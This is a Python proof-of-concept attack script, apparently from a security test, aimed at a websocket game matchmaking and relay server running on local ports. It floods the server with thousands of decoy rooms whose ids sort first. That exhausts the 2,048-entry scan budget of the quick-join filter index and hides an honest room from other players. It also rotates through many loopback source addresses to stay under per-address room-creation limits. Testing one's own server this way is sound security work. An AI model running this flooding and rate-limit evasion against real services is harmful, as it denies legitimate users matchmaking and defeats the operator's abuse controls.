"""Two-filter hide: the index reads the smaller of the filters' entry sets and looks at
2,048 ids at most. ATK rooms with {mode: M, map: other} and ATK with {mode: other, map: P}
(1 member each, ids 'zz…', which sort first among equal member counts in ZRANGE REV),
on node ON, hide the honest 1-member room {mode: M, map: P} on n2 from quick joins on n1
with filters {mode: M, map: P} once ATK >= 2,048 (both sets then larger than the budget).
EXTRA=k adds k more entries x0..x(k-1)=1 to every attacker room."""
import asyncio, os, time
from lib18 import *
N1 = os.environ.get("N1", "ws://127.0.0.1:8121/ws"); N2 = os.environ.get("N2", "ws://127.0.0.1:8122/ws")
ATK = int(os.environ.get("ATK", "2100")); ON = os.environ.get("ON", "n2"); EXTRA = int(os.environ.get("EXTRA", "0"))
HOLD = float(os.environ.get("HOLD", "0")); T = int(time.time()) % 100000
async def conn(url, addr):
    c = C(); c.ws = await websockets.connect(url, ping_interval=None, max_size=1<<26, local_addr=(addr, 0), open_timeout=20); await c.ws.recv(); c.task = asyncio.create_task(c._read()); return c
async def make_rooms(url, specs, net):
    """specs: [(room id, metadata)], 16 a session, 3 sessions an address (48 < creation burst 60)."""
    out = []
    for s in range((len(specs) + 15) // 16):
        c = await conn(url, "127.%d.%d.%d" % (net, s // 3 // 200 + 1, s // 3 % 200 + 1))
        await c.send(*[cm(join=pb.JoinRoom(request_id=j + 1, room=r, room_type="relay", create=pb.RoomOptions(metadata=md))) for j, (r, md) in enumerate(specs[s * 16:(s + 1) * 16])])
        out.append(c)
    return out
async def main():
    mode, mp = "m%d" % T, "p%d" % T
    host = await C().open(url=N2)
    await host.send(cm(quick_join=pb.QuickJoin(request_id=1, room_type="relay", filters={"mode": mode, "map": mp})))
    m = await host.wait(lambda k, m: k in ("joined", "error", "redirect")); hroom = m.joined.room
    print("honest room:", hroom, m.WhichOneof("kind"))
    url = N1 if ON == "n1" else N2
    extra = {"x%d" % i: "1" for i in range(EXTRA)}
    specs = [("zz%05d-a%04d" % (T, i), dict(extra, mode=mode, map="other")) for i in range(ATK)]
    specs += [("zz%05d-b%04d" % (T, i), dict(extra, mode="other", map=mp)) for i in range(ATK)]
    t0 = time.time()
    atk = await make_rooms(url, specs, 20)
    await asyncio.sleep(2)
    errs = [m.error.message for c in atk for m in c.of("error")]
    print("attacker: %d seats in %d rooms from %d sessions in %.1fs; errors %d %s" % (sum(len(c.of("joined")) for c in atk), len(specs), len(atk), time.time()-t0, len(errs), errs[:2]))
    await asyncio.sleep(2.5)
    res = []
    for i in range(5):
        h = await C().open(url=N1)
        t1 = time.time()
        await h.send(cm(quick_join=pb.QuickJoin(request_id=1, room_type="relay", filters={"mode": mode, "map": mp})))
        m = await h.wait(lambda k, m: k in ("joined", "error", "redirect"))
        k = m.WhichOneof("kind"); res.append((k, getattr(m, k).room, round((time.time()-t1)*1000, 1)))
        await h.close(); await asyncio.sleep(0.6)
    print("honest quick joins on n1 ->", res, "(expected: redirect to", hroom, ")")
    print("found %d/5" % sum(1 for r in res if r[0] == "redirect" and r[1] == hroom))
    if HOLD:
        open("/tmp/attack21/twofilter.env", "w").write("MODE=%s\nMAP=%s\nEXTRA=%d\nHROOM=%s\n" % (mode, mp, EXTRA, hroom))
        print("holding %.0fs" % HOLD); await asyncio.sleep(HOLD)
    for c in atk: await c.close()
    await host.close()
asyncio.run(main())
